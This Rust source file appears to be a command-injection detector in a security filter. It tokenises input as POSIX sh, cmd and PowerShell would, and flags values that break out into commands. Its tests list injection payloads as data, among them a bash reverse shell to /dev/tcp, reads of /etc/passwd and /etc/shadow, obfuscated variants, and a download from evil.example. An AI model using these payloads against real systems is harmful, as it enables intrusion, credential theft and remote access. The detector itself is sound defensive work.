//! Command injection, read the way a shell reads it (POSIX `sh`, with the parts of Windows
//! `cmd` and PowerShell that attackers use).
//!
//! The value is split into shell tokens: words (quotes, backslashes, `^`, `$@` and `${IFS}`
//! resolved as the shell resolves them, so `c'a't`, `who$@ami` and `cat${IFS}/etc/passwd`
//! read as their commands), separators (`;` `&` `&&` `|` `||` newline), substitutions
//! (`` `..` ``, `$(..)`, `<(..)`), subshells and groups, redirections and comments. A word
//! in a command position (after the start, a separator, an opened substitution, a prefix
//! such as `sudo` or an assignment) is looked up in the dictionary the rule file gives.
//!
//! A dictionary word alone is not an attack: "cat", "find" and "sleep" are English. It counts
//! when the value has broken out into command syntax and the command has the shape of a
//! command line:
//! - inside a *closed* substitution, subshell or group, a command that is not also an
//!   English word, or one with a command line's arguments (an unclosed one is a syntax
//!   error, which runs nothing; markdown quotes "`make`" in backquotes);
//! - after a separator: a `strong` command (rarely English); a `bare` command (one that
//!   reveals something with no argument) with nothing after it; any command with arguments
//!   shaped like a command line's (an option, a path, a variable, a number, a redirection);
//!   any command with at most one plain argument that ends the value or is ended by shell
//!   syntax, unless the separator reads as punctuation between clauses of prose;
//! - at the very start: a command whose arguments are shaped and few, ended by the value or
//!   by shell syntax (`cat /etc/passwd`, `ls -la`, not "Find /tmp files older than a week").

use std::collections::HashMap;

use super::Detection;

/// How strongly a dictionary word says "command".
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Class {
    /// Also an English word: needs command-line shape.
    Weak,
    /// Reveals something when run alone (`id`, `env`, `ipconfig`).
    Bare,
    /// Rarely anything but a command.
    Strong,
}

/// The command words a shell detector knows, from the rule file's lists.
#[derive(Debug, Default)]
pub struct Dictionary {
    words: HashMap<Vec<u8>, Class>,
    /// Words that run the word after them as a command (`sudo`, `env`, `nohup`).
    prefixes: Vec<Vec<u8>>,
}

/// The word classes a `shell` rule's `words` table may name.
pub const CLASSES: &[&str] = &["strong", "bare", "weak", "prefix"];

impl Dictionary {
    /// Adds `words` under `class` (one of [`CLASSES`]); a word in two classes keeps the
    /// stronger.
    pub fn add(&mut self, class: &str, words: &[String]) -> Result<(), String> {
        let class = match class {
            "strong" => Class::Strong,
            "bare" => Class::Bare,
            "weak" => Class::Weak,
            "prefix" => {
                self.prefixes
                    .extend(words.iter().map(|w| w.to_ascii_lowercase().into_bytes()));
                return Ok(());
            }
            other => {
                return Err(format!(
                    "unknown word class {other:?} (expected one of {})",
                    CLASSES.join(", ")
                ))
            }
        };
        for w in words {
            let e = self
                .words
                .entry(w.to_ascii_lowercase().into_bytes())
                .or_insert(class);
            *e = (*e).max(class);
        }
        Ok(())
    }

    fn class_of(&self, word: &Word, buf: &[u8]) -> Option<Class> {
        let text = &buf[word.text.clone()];
        // A command named by its path: absolute, relative to here or home, or in a `bin`
        // directory; not a product token (`OpenAI/Python`) or a URL.
        let base = match text.iter().rposition(|&b| b == b'/' || b == b'\\') {
            Some(p)
                if matches!(text[0], b'/' | b'\\' | b'.' | b'~')
                    || text.get(1) == Some(&b':')
                    || memchr::memmem::find(text, b"bin/").is_some() =>
            {
                &text[p + 1..]
            }
            Some(_) => b"",
            None => text,
        };
        let base = base.strip_suffix(b".exe").unwrap_or(base);
        if word.glob {
            let literal = base
                .iter()
                .filter(|b| !matches!(b, b'*' | b'?' | b'[' | b']'))
                .count();
            if literal < 2 {
                return None;
            }
            return self
                .words
                .iter()
                .filter(|(w, _)| glob_matches(base, w))
                .map(|(_, c)| *c)
                .max();
        }
        if let Some(c) = self.words.get(base) {
            return Some(*c);
        }
        // `python3.11`, `php7`: a versioned interpreter is the interpreter.
        let unversioned = base.trim_ascii_end();
        let cut = unversioned
            .iter()
            .rposition(|b| !(b.is_ascii_digit() || *b == b'.'))
            .map_or(0, |p| p + 1);
        if cut > 0 && unversioned[cut..].iter().any(u8::is_ascii_digit) {
            if let Some(c) = self.words.get(&unversioned[..cut]) {
                return Some(*c);
            }
        }
        // cmd reads `cmd/c` and `bcdboot/r` as the command and its switch.
        if let Some(slash) = text.iter().position(|&b| b == b'/').filter(|&p| p > 1) {
            let switch = &text[slash + 1..];
            if (1..=2).contains(&switch.len()) && switch.iter().all(u8::is_ascii_alphabetic) {
                if let Some(c) = self.words.get(&text[..slash]) {
                    return Some(*c);
                }
            }
        }
        powershell_cmdlet(base).then_some(Class::Strong)
    }

    fn is_prefix(&self, word: &Word, buf: &[u8]) -> bool {
        self.prefixes.iter().any(|p| *p == buf[word.text.clone()])
    }
}

/// A PowerShell cmdlet name: one of the verbs attackers use, a dash, a noun.
fn powershell_cmdlet(w: &[u8]) -> bool {
    const VERBS: &[&[u8]] = &[
        b"invoke-", b"start-", b"new-", b"get-", b"set-", b"remove-", b"out-", b"import-", b"add-",
        b"stop-",
    ];
    VERBS.iter().any(|v| {
        w.len() > v.len() + 2
            && w.starts_with(v)
            && w[v.len()..].iter().all(|b| b.is_ascii_alphabetic())
    })
}

/// Longest glob pattern compared with the dictionary.
const MAX_GLOB: usize = 64;

/// Shell glob matching (`?`, `*`, `[..]`) of `pattern` against `word`, in O(len²): the
/// set of pattern positions still alive is carried across the word.
fn glob_matches(pattern: &[u8], word: &[u8]) -> bool {
    if pattern.len() > MAX_GLOB {
        return false;
    }
    // alive[k]: the pattern's first k elements match the word read so far.
    let mut alive = vec![false; pattern.len() + 1];
    alive[0] = true;
    let close_after = |k: usize| -> usize {
        // The element at k spans up to (not including) the returned index.
        if pattern[k] == b'[' {
            pattern[k + 1..]
                .iter()
                .skip(1)
                .position(|&b| b == b']')
                .map_or(k + 1, |e| k + e + 3)
        } else {
            k + 1
        }
    };
    let star_closure = |alive: &mut Vec<bool>| {
        for k in 0..pattern.len() {
            if alive[k] && pattern[k] == b'*' {
                alive[k + 1] = true;
            }
        }
    };
    star_closure(&mut alive);
    for &c in word {
        let mut next = vec![false; pattern.len() + 1];
        for k in 0..pattern.len() {
            if !alive[k] {
                continue;
            }
            let after = close_after(k);
            let matches = match pattern[k] {
                b'*' => {
                    next[k] = true;
                    continue;
                }
                b'?' => true,
                b'[' if after > k + 1 => {
                    let set = &pattern[k + 1..after - 1];
                    match set.split_first() {
                        Some((b'!' | b'^', s)) if !s.is_empty() => !s.contains(&c),
                        _ => set.contains(&c),
                    }
                }
                p => p == c,
            };
            if matches {
                next[after] = true;
            }
        }
        alive = next;
        star_closure(&mut alive);
    }
    alive[pattern.len()]
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    Semi,
    Amp,
    And,
    Or,
    Pipe,
    Newline,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Open {
    /// `$(`, `<(`, `>(`.
    Subst,
    /// An opening backquote.
    Backtick,
    /// `(`.
    Subshell,
    /// `{ ` or a brace expansion `{a,b}`.
    Group,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct Word {
    /// The word as the shell passes it on, ASCII lowercased: where it stands in the
    /// lexer's buffer of word text (one buffer, not an allocation per word).
    text: std::ops::Range<usize>,
    start: usize,
    end: usize,
    /// Holds a variable expansion (`$HOME`, `%COMSPEC%`).
    var: bool,
    /// Holds an unquoted glob character.
    glob: bool,
    /// Quotes, escapes or empty expansions were resolved inside it.
    hidden: bool,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Tok {
    Word(Word),
    /// A separator; `spaced` when white space stands after it (and before it, but for
    /// `;`), as between clauses of prose ("salt & pepper", "a hero; more than").
    Sep {
        kind: Sep,
        spaced: bool,
        at: usize,
    },
    Open(Open),
    /// `)` (closing `$(` or `(`), a closing backquote, or `}`.
    Close(Closer),
    Redirect,
    Comment,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Closer {
    Paren,
    Backtick,
    Brace,
}

impl Closer {
    fn closes(self, open: Open) -> bool {
        matches!(
            (self, open),
            (Closer::Paren, Open::Subst | Open::Subshell)
                | (Closer::Backtick, Open::Backtick)
                | (Closer::Brace, Open::Group)
        )
    }
}

/// Longest `${...}` or `%...%` name read.
const MAX_NAME: usize = 64;

struct Lexer<'a> {
    s: &'a [u8],
    i: usize,
    toks: Vec<Tok>,
    word: Option<Word>,
    /// The text of every word, one after the other.
    buf: Vec<u8>,
    in_backtick: bool,
    /// Inside a brace expansion, where `,` separates words.
    braces: usize,
}

impl<'a> Lexer<'a> {
    fn word(&mut self) -> &mut Word {
        let start = self.i;
        let at = self.buf.len();
        self.word.get_or_insert_with(|| Word {
            start,
            text: at..at,
            ..Word::default()
        })
    }

    fn push_char(&mut self, c: u8) {
        self.word();
        self.buf.push(c.to_ascii_lowercase());
        let end = self.buf.len();
        if let Some(w) = self.word.as_mut() {
            w.text.end = end;
        }
    }

    fn flush(&mut self) {
        if let Some(mut w) = self.word.take() {
            w.end = self.i;
            if !w.text.is_empty() || w.var {
                self.toks.push(Tok::Word(w));
            }
        }
    }

    fn space_before(&self, at: usize) -> bool {
        at == 0 || self.s[at - 1].is_ascii_whitespace()
    }

    fn sep(&mut self, kind: Sep, len: usize) {
        self.flush();
        let at = self.i;
        // Prose puts a space after `;` and around `&` ("a hero; more than", "salt &
        // pepper"); an injection usually glues them to the command (`x;id`, `x&&id`).
        let space_after = self.s.get(at + len).is_none_or(|b| b.is_ascii_whitespace());
        let spaced = space_after && (kind == Sep::Semi || self.space_before(at));
        self.toks.push(Tok::Sep { kind, spaced, at });
        self.i += len;
    }

    fn token(&mut self, t: Tok, len: usize) {
        self.flush();
        self.toks.push(t);
        self.i += len;
    }

    fn peek(&self, k: usize) -> Option<u8> {
        self.s.get(self.i + k).copied()
    }

    /// `$` at `self.i`: an expansion.
    fn dollar(&mut self) {
        match self.peek(1) {
            Some(b'(') => self.token(Tok::Open(Open::Subst), 2),
            Some(b'{') => {
                let rest = &self.s[self.i + 2..];
                let close = rest.iter().take(MAX_NAME).position(|&b| b == b'}');
                let Some(close) = close else {
                    self.push_char(b'$');
                    self.i += 1;
                    return;
                };
                let name = &rest[..close];
                self.i += close + 3;
                if name.starts_with(b"IFS") {
                    self.flush();
                } else if name.is_empty()
                    || matches!(name[0], b'@' | b'*' | b'#' | b'!' | b'0'..=b'9')
                {
                    self.word().hidden = true;
                } else {
                    self.word().var = true;
                }
            }
            Some(b'@' | b'*' | b'0'..=b'9') => {
                self.word().hidden = true;
                self.i += 2;
            }
            Some(b'\'') => {
                // ANSI-C quoting: `$'\x63at'` is `cat`.
                self.i += 2;
                while let Some(c) = self.peek(0) {
                    self.i += 1;
                    match c {
                        b'\'' => break,
                        b'\\' => {
                            let c = self.ansi_escape();
                            self.push_char(c);
                        }
                        c => self.push_char(c),
                    }
                }
                self.word().hidden = true;
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let rest = &self.s[self.i + 1..];
                let len = rest
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                    .count();
                let name = &rest[..len];
                self.i += 1 + len;
                if name == b"IFS" {
                    self.flush();
                } else {
                    self.word().var = true;
                }
            }
            _ => {
                self.push_char(b'$');
                self.i += 1;
            }
        }
    }

    /// The character of the escape after a `\` in `$'..'` (`self.i` after the `\`).
    fn ansi_escape(&mut self) -> u8 {
        let Some(c) = self.peek(0) else {
            return b'\\';
        };
        self.i += 1;
        let digits = |s: &[u8], radix: u32, max: usize| {
            let n = s
                .iter()
                .take(max)
                .take_while(|b| (**b as char).is_digit(radix))
                .count();
            let v = std::str::from_utf8(&s[..n])
                .ok()
                .and_then(|t| u8::from_str_radix(t, radix).ok());
            (n, v)
        };
        match c {
            b'x' => {
                let (n, v) = digits(&self.s[self.i..], 16, 2);
                self.i += n;
                v.unwrap_or(b'x')
            }
            b'0'..=b'7' => {
                let (n, v) = digits(&self.s[self.i - 1..], 8, 3);
                self.i += n.saturating_sub(1);
                v.unwrap_or(c)
            }
            b'n' => b'\n',
            b't' => b'\t',
            c => c,
        }
    }

    fn quoted(&mut self, quote: u8) {
        self.i += 1;
        self.word().hidden = true;
        while let Some(c) = self.peek(0) {
            match c {
                _ if c == quote => {
                    self.i += 1;
                    return;
                }
                b'\\' if quote == b'"' => {
                    if let Some(n) = self.peek(1) {
                        self.push_char(n);
                    }
                    self.i += 2;
                }
                b'$' if quote == b'"' => self.dollar(),
                c => {
                    self.push_char(c);
                    self.i += 1;
                }
            }
        }
    }

    fn redirect(&mut self) {
        // `2>&1`: a word of digits just before is a file descriptor, not an argument.
        if self
            .word
            .as_ref()
            .is_some_and(|w| self.buf[w.text.clone()].iter().all(u8::is_ascii_digit) && !w.hidden)
        {
            self.word = None;
        }
        self.flush();
        if matches!(self.peek(1), Some(b'(')) {
            self.token(Tok::Open(Open::Subst), 2);
            return;
        }
        let len = self.s[self.i..]
            .iter()
            .take_while(|b| matches!(b, b'<' | b'>' | b'&' | b'|' | b'-'))
            .count();
        let digits = self.s[self.i + len..]
            .iter()
            .take_while(|b| b.is_ascii_digit())
            .count();
        self.token(Tok::Redirect, len + digits);
    }

    /// Copies the run of plain word bytes at `self.i` (most of any text) in one step.
    fn plain_run(&mut self) {
        if self.i >= self.s.len() {
            return;
        }
        // (`%`, which starts cmd's `%NAME%`, is read byte by byte.)
        let run = self.s[self.i..]
            .iter()
            .take_while(|&&b| b.is_ascii_alphanumeric() || b"._-:+=/@!".contains(&b) || b >= 0x80)
            .count();
        if run == 0 {
            return;
        }
        self.word();
        self.buf.extend(
            self.s[self.i..self.i + run]
                .iter()
                .map(u8::to_ascii_lowercase),
        );
        let end = self.buf.len();
        if let Some(w) = self.word.as_mut() {
            w.text.end = end;
        }
        self.i += run;
    }

    fn run(mut self) -> Lexed {
        loop {
            self.plain_run();
            let Some(c) = self.peek(0) else {
                break;
            };
            match c {
                b' ' | b'\t' | 0x0b | 0x0c => {
                    self.flush();
                    self.i += 1;
                }
                b',' if self.braces > 0 => {
                    self.flush();
                    self.i += 1;
                }
                b'\r' if self.peek(1) == Some(b'\n') => self.sep(Sep::Newline, 2),
                b'\n' | b'\r' => self.sep(Sep::Newline, 1),
                b';' => self.sep(Sep::Semi, if self.peek(1) == Some(b';') { 2 } else { 1 }),
                b'&' => match self.peek(1) {
                    Some(b'&') => self.sep(Sep::And, 2),
                    Some(b'>') => self.redirect(),
                    _ => self.sep(Sep::Amp, 1),
                },
                b'|' => match self.peek(1) {
                    Some(b'|') => self.sep(Sep::Or, 2),
                    Some(b'&') => self.sep(Sep::Pipe, 2),
                    _ => self.sep(Sep::Pipe, 1),
                },
                b'`' => {
                    let t = if self.in_backtick {
                        Tok::Close(Closer::Backtick)
                    } else {
                        Tok::Open(Open::Backtick)
                    };
                    self.in_backtick = !self.in_backtick;
                    self.token(t, 1);
                }
                b'(' => self.token(Tok::Open(Open::Subshell), 1),
                b')' => self.token(Tok::Close(Closer::Paren), 1),
                b'{' if self.word.is_none() => {
                    let rest = &self.s[self.i + 1..];
                    let close = rest.iter().take(256).position(|&b| b == b'}');
                    if close.is_some_and(|e| rest[..e].contains(&b',')) {
                        self.braces += 1;
                        self.token(Tok::Open(Open::Group), 1);
                    } else if self.peek(1).is_some_and(|b| b.is_ascii_whitespace()) {
                        self.token(Tok::Open(Open::Group), 1);
                    } else {
                        self.push_char(c);
                        self.i += 1;
                    }
                }
                b'}' if self.braces > 0 || self.word.is_none() => {
                    self.braces = self.braces.saturating_sub(1);
                    self.token(Tok::Close(Closer::Brace), 1);
                }
                b'<' | b'>' => self.redirect(),
                // A comment starts a word; attackers also glue one to the command (`;id#`),
                // which a lenient reading takes as the same.
                b'#' if self.word.is_none()
                    || self.peek(1).is_none_or(|b| !b.is_ascii_alphanumeric()) =>
                {
                    self.flush();
                    let rest = &self.s[self.i..];
                    let end = rest
                        .iter()
                        .position(|&b| b == b'\n' || b == b'\r')
                        .unwrap_or(rest.len());
                    self.toks.push(Tok::Comment);
                    self.i += end;
                }
                b'\\' => {
                    match self.peek(1) {
                        Some(b'\n') => {}
                        Some(n) => self.push_char(n),
                        None => self.push_char(c),
                    }
                    self.word().hidden = true;
                    self.i += 2;
                }
                // cmd's escape character.
                b'^' => {
                    self.word().hidden = true;
                    self.i += 1;
                }
                b'\'' | b'"' => self.quoted(c),
                b'$' => self.dollar(),
                b'%' => {
                    // cmd's `%NAME%` and `%NAME:~1,3%`.
                    let rest = &self.s[self.i + 1..];
                    let close = rest.iter().take(MAX_NAME).position(|&b| b == b'%');
                    match close {
                        Some(e)
                            if e > 0
                                && rest[..e].iter().all(|b| {
                                    b.is_ascii_alphanumeric()
                                        || matches!(b, b'_' | b':' | b'~' | b',' | b'-')
                                }) =>
                        {
                            self.word().var = true;
                            self.i += e + 2;
                        }
                        _ => {
                            self.push_char(c);
                            self.i += 1;
                        }
                    }
                }
                b'?' | b'*' | b'[' => {
                    self.word().glob = true;
                    self.push_char(c);
                    self.i += 1;
                }
                c => {
                    self.push_char(c);
                    self.i += 1;
                }
            }
        }
        self.flush();
        Lexed {
            toks: self.toks,
            buf: self.buf,
        }
    }
}

/// A value's tokens, and the text of its words.
struct Lexed {
    toks: Vec<Tok>,
    buf: Vec<u8>,
}

fn lex(s: &[u8]) -> Lexed {
    Lexer {
        s,
        i: 0,
        toks: Vec::new(),
        word: None,
        buf: Vec::with_capacity(s.len()),
        in_backtick: false,
        braces: 0,
    }
    .run()
}

/// For each `Open` token, whether a `Close` of its kind matches it later.
fn closed_opens(toks: &[Tok]) -> Vec<bool> {
    let mut closed = vec![false; toks.len()];
    let mut stack: Vec<(usize, Open)> = Vec::new();
    for (i, t) in toks.iter().enumerate() {
        match t {
            Tok::Open(o) => stack.push((i, *o)),
            Tok::Close(c) => {
                if let Some(&(o, open)) = stack.last() {
                    if c.closes(open) {
                        closed[o] = true;
                        stack.pop();
                    }
                }
            }
            _ => {}
        }
    }
    closed
}

/// What put a word in a command position.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Position {
    Start,
    /// After a separator, with the number of words before it in the value.
    AfterSep {
        kind: Sep,
        spaced: bool,
        words_before: usize,
    },
    /// Inside a substitution, subshell or group, closed or not.
    Inside {
        open: Open,
        closed: bool,
    },
}

/// An argument that only a command line has: an option, a path, a variable, a glob, a
/// number, an address, an assignment, a quoted or escaped part, a script file.
fn shaped(arg: &Word, buf: &[u8]) -> bool {
    let t = &buf[arg.text.clone()];
    let option = t.len() >= 2
        && matches!(t[0], b'-' | b'/')
        && (t[1].is_ascii_alphanumeric() || t[1] == b'-');
    let number = !t.is_empty() && t.iter().all(|b| b.is_ascii_digit() || *b == b'.');
    let script = [
        ".sh", ".py", ".pl", ".rb", ".php", ".ps1", ".bat", ".exe", ".txt", ".ini",
    ]
    .iter()
    .any(|e| t.ends_with(e.as_bytes()) && t.len() > e.len());
    // A `?` ending a word is a question mark.
    let glob = arg.glob && !(t.ends_with(b"?") && t.iter().filter(|b| **b == b'?').count() == 1);
    arg.var
        || glob
        || arg.hidden
        || option
        || number
        || script
        || t.starts_with(b"~")
        || t.contains(&b'/')
        || t.contains(&b'\\')
        || t.contains(&b'=')
        || t.contains(&b'@')
}

/// The command at `toks[i..]` (a command position): the detection, if it is one.
fn judge(lexed: &Lexed, mut i: usize, position: Position, dict: &Dictionary) -> Option<Detection> {
    let (toks, buf) = (lexed.toks.as_slice(), lexed.buf.as_slice());
    // Prefixes (`sudo`, `nohup`, `timeout 5`) and assignments (`A=1`) before the command;
    // a prefix with no command after it is the command (`env` alone prints the environment).
    let mut last_prefix = None;
    while let Some(Tok::Word(w)) = toks.get(i) {
        let text = &buf[w.text.clone()];
        let assignment = text.iter().position(|&b| b == b'=').is_some_and(|e| {
            e > 0
                && text[..e]
                    .iter()
                    .all(|b| b.is_ascii_alphanumeric() || *b == b'_')
        });
        let number = text.iter().all(u8::is_ascii_digit) && i > 0;
        let prefix = dict.is_prefix(w, buf);
        if prefix || assignment || number {
            if prefix {
                last_prefix = Some(i);
            }
            i += 1;
        } else {
            break;
        }
    }
    if !matches!(toks.get(i), Some(Tok::Word(_))) {
        i = last_prefix?;
    }
    let Some(Tok::Word(command)) = toks.get(i) else {
        return None;
    };
    let class = dict.class_of(command, buf)?;
    let mut args = Vec::new();
    let mut redirect = false;
    let mut j = i + 1;
    while let Some(t) = toks.get(j) {
        match t {
            Tok::Word(w) => args.push(w),
            Tok::Redirect => redirect = true,
            _ => break,
        }
        j += 1;
    }
    let end = args.last().map_or(command.end, |a| a.end);
    let found = |why: &'static str| {
        Some(Detection {
            at: command.start,
            len: end.saturating_sub(command.start),
            why,
        })
    };
    // What ends the command: the value's end, or shell syntax.
    let next = toks.get(j);
    let ended = matches!(
        next,
        None | Some(Tok::Sep { .. } | Tok::Close(_) | Tok::Comment | Tok::Open(_))
    );
    // Ended by shell syntax after which the value is over, or goes on as shell: `;id;`,
    // `;id;ls`, `&id#`, not "Tail; my order from last week".
    let by_syntax = match next {
        Some(Tok::Close(_) | Tok::Comment) => true,
        Some(Tok::Sep { .. }) => match toks.get(j + 1) {
            None | Some(Tok::Close(_) | Tok::Comment | Tok::Open(_) | Tok::Sep { .. }) => true,
            Some(Tok::Word(w)) => dict.class_of(w, buf).is_some(),
            Some(Tok::Redirect) => true,
        },
        // A backquote left open at the very end (`;id\``) closes the application's own.
        Some(Tok::Open(_)) => toks.get(j + 1).is_none(),
        _ => false,
    };
    let shape = redirect || command.hidden || args.iter().any(|a| shaped(a, buf));
    // `/bin/cat`, `./x`, `~/x`, `c:\\windows\\x.exe`; not `https://shop/find`, `curl/8.5`.
    let t = &buf[command.text.clone()];
    let path_to_command = t.starts_with(b"/")
        || t.starts_with(b"./")
        || t.starts_with(b"~/")
        || t.len() > 3 && t[0].is_ascii_alphabetic() && &t[1..3] == b":\\";
    match position {
        Position::Inside { open, closed } => {
            // Markdown quotes code in backquotes too ("run `make`"): a weak word inside
            // one needs arguments with a command line's shape.
            if closed && (class != Class::Weak || shape || open == Open::Subst) {
                return found("a command inside a closed substitution, subshell or group");
            }
            None
        }
        Position::AfterSep {
            kind,
            spaced,
            words_before,
        } => {
            // Between clauses of prose, `;` and `&` stand with spaces around them after a
            // few words ("Cheese & wine; more later"): the command needs more than a word.
            let prose = spaced && matches!(kind, Sep::Semi | Sep::Amp) && words_before >= 2;
            if class == Class::Strong && (!prose || ended || shape) {
                return found("a command after a command separator");
            }
            if shape && (args.len() <= 4 || !prose) {
                return found("a command with command-line arguments after a separator");
            }
            let at_end = next.is_none();
            // A word that is also English, alone after a spaced separator, is a phrase
            // ("c++ | more"); glued to it (`x|more`), or revealing something alone, a command.
            if args.is_empty() && (by_syntax || at_end && (class == Class::Bare || !spaced)) {
                return found("a command alone after a separator");
            }
            if args.len() == 1 && (by_syntax || at_end && !prose) {
                return found("a command and one argument ending the value after a separator");
            }
            None
        }
        Position::Start => {
            let piped = matches!(
                next,
                Some(Tok::Sep {
                    kind: Sep::Pipe | Sep::And | Sep::Or,
                    ..
                })
            );
            let prefixed = i > 0;
            if (shape || path_to_command || prefixed) && args.len() <= 3 && ended {
                return found("a value that is a command line");
            }
            if class == Class::Strong
                && (piped
                    || redirect
                    || ended && ((1..=2).contains(&args.len()) || shape && args.len() <= 6))
            {
                return found("a value that is a command line");
            }
            None
        }
    }
}

/// How far into a value a quote that closes the application's own string is looked for:
/// break-outs come first (`x'; id; '`); a quote in the middle of a long text is its prose.
const QUOTE_REACH: usize = 256;

/// Finds a command in `input` (the `decoded` form).
///
/// A value holding a quote near its start is also read as the application would place it:
/// inside its own quoted string, which the value's first quote closes (`'; id; '` in
/// `ping '...'`).
pub fn detect(input: &[u8], dict: &Dictionary) -> Option<Detection> {
    if input.is_empty() {
        return None;
    }
    detect_in(&lex(input), dict).or_else(|| {
        [b'\'', b'"']
            .into_iter()
            .filter(|q| input[..input.len().min(QUOTE_REACH)].contains(q))
            .find_map(|q| {
                let mut quoted = Vec::with_capacity(input.len() + 1);
                quoted.push(q);
                quoted.extend_from_slice(input);
                // Back to the value's own offsets (the quote added is not in it).
                detect_in(&lex(&quoted), dict).map(|d| Detection {
                    at: d.at.saturating_sub(1),
                    len: (d.at + d.len).saturating_sub(1) - d.at.saturating_sub(1),
                    ..d
                })
            })
    })
}

fn detect_in(lexed: &Lexed, dict: &Dictionary) -> Option<Detection> {
    let toks = lexed.toks.as_slice();
    let closed = closed_opens(toks);
    let mut words_seen = 0;
    let mut opens: Vec<(Open, bool)> = Vec::new();
    let mut position = Some(Position::Start);
    for (i, t) in toks.iter().enumerate() {
        if let Some(p) = position.take() {
            if matches!(t, Tok::Word(_)) {
                if let Some(d) = judge(lexed, i, p, dict) {
                    return Some(d);
                }
            }
        }
        match t {
            Tok::Word(_) => words_seen += 1,
            Tok::Sep { kind, spaced, .. } => {
                position = Some(match opens.last() {
                    Some(&(open, closed)) => Position::Inside { open, closed },
                    None => Position::AfterSep {
                        kind: *kind,
                        spaced: *spaced,
                        words_before: words_seen,
                    },
                });
            }
            Tok::Open(open) => {
                // A parenthesis or brace in the middle of words is punctuation ("(set to 41
                // by default)"); a subshell or group opens where a command could start, or
                // right after another closes (PHP's `("system")("id")`).
                let commands = matches!(open, Open::Subst | Open::Backtick)
                    || matches!(
                        i.checked_sub(1).map(|p| &toks[p]),
                        None | Some(Tok::Sep { .. } | Tok::Open(_) | Tok::Close(_))
                    );
                opens.push((*open, closed[i] && commands));
                position = commands.then_some(Position::Inside {
                    open: *open,
                    closed: closed[i],
                });
            }
            Tok::Close(_) => {
                opens.pop();
            }
            Tok::Redirect | Tok::Comment => {}
        }
    }
    None
}

/// The token stream of `input`, for `rampart rules test`.
pub fn explain(input: &[u8]) -> String {
    let lexed = lex(input);
    lexed
        .toks
        .iter()
        .map(|t| match t {
            Tok::Word(w) => {
                let mut s = format!(
                    "word({})",
                    String::from_utf8_lossy(&lexed.buf[w.text.clone()])
                );
                for (flag, name) in [(w.var, "var"), (w.glob, "glob"), (w.hidden, "hidden")] {
                    if flag {
                        s.push('+');
                        s.push_str(name);
                    }
                }
                s
            }
            Tok::Sep { kind, spaced, .. } => {
                format!("sep({kind:?}{})", if *spaced { ",spaced" } else { "" })
            }
            Tok::Open(o) => format!("open({o:?})"),
            Tok::Close(c) => format!("close({c:?})"),
            Tok::Redirect => "redirect".to_string(),
            Tok::Comment => "comment".to_string(),
        })
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dict() -> Dictionary {
        let mut d = Dictionary::default();
        let list = |s: &str| s.split(' ').map(String::from).collect::<Vec<_>>();
        d.add(
            "strong",
            &list("whoami uname wget curl nc bash sh ifconfig powershell cmd certutil"),
        )
        .unwrap();
        d.add("bare", &list("id env ps pwd ls ipconfig")).unwrap();
        d.add(
            "weak",
            &list("cat echo sleep find more type net ping kill python perl"),
        )
        .unwrap();
        d.add("prefix", &list("sudo nohup env timeout")).unwrap();
        d
    }

    fn hit(s: &str) -> bool {
        detect(s.as_bytes(), &dict()).is_some()
    }

    #[test]
    fn commands_that_break_out_of_a_value_are_found() {
        for attack in [
            ";id",
            "x;id#",
            "127.0.0.1 && whoami",
            "1|cat /etc/passwd",
            "a`id`",
            "$(whoami)",
            "x\nid",
            "x\r\n echo pwned",
            "& ping -c 3 10.0.0.1 &",
            "; sudo cat /etc/shadow",
            ";c'a't /etc/passwd",
            ";who$@ami",
            ";cat${IFS}/etc/passwd",
            ";$'\\x63\\x61\\x74' /etc/passwd",
            ";/bin/ca? /etc/pa??wd",
            "|net user",
            "&sleep 5#",
            "; w^h^o^a^m^i",
            "x||bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "cat /etc/passwd",
            "ls -la /",
            "{cat,/etc/passwd}",
            ";Invoke-WebRequest http://evil.example/x",
            "; python3.11 -c 'import os'",
            "<(whoami)",
            ";A=1 id",
            "| timeout 5 nc 10.0.0.1 4444",
        ] {
            assert!(
                hit(attack),
                "missed {attack:?}: {}",
                explain(attack.as_bytes())
            );
        }
    }

    #[test]
    fn prose_with_command_words_is_left_alone() {
        for text in [
            "Find my order please",
            "cat food and water bowls",
            "Games, movies & more",
            "Tom & Jerry; the cat and the mouse",
            "Fish & chips; sleep well after a long day",
            "how do I use the find command",
            "Echo is a nice name for a dog",
            "type here",
            "I can't find `ls' in the manual",
            "Sleep 5 hours a night, then ping me",
            "whoami",
            "wget",
            "Bash, how do loops work?",
            "curl up with a good book",
            "R&D budget; more to come",
            "Find /tmp files older than seven days in the archive",
            "wait... / or not",
        ] {
            assert!(!hit(text), "refused {text:?}: {}", explain(text.as_bytes()));
        }
    }

    #[test]
    fn an_unclosed_substitution_runs_nothing() {
        assert!(!hit("see `wait' in the manual"));
        assert!(hit("see `whoami`"));
        assert!(!hit("a $(echo"));
    }

    #[test]
    fn globs_match_the_dictionary() {
        assert!(glob_matches(b"ca?", b"cat"));
        assert!(glob_matches(b"w*i", b"whoami"));
        assert!(glob_matches(b"[c]at", b"cat"));
        assert!(!glob_matches(b"ca?", b"ca"));
        assert!(!glob_matches(b"[!c]at", b"cat"));
    }

    #[test]
    fn hostile_input_is_bounded() {
        for s in [
            "$".repeat(10_000),
            "${".repeat(10_000),
            "$'\\".repeat(10_000),
            "`".repeat(10_001),
            "((((".repeat(5_000),
            "\\".repeat(10_001),
            "{,".repeat(5_000),
            "%".repeat(10_000),
        ] {
            let _ = detect(s.as_bytes(), &dict());
            let _ = explain(s.as_bytes());
        }
    }
}
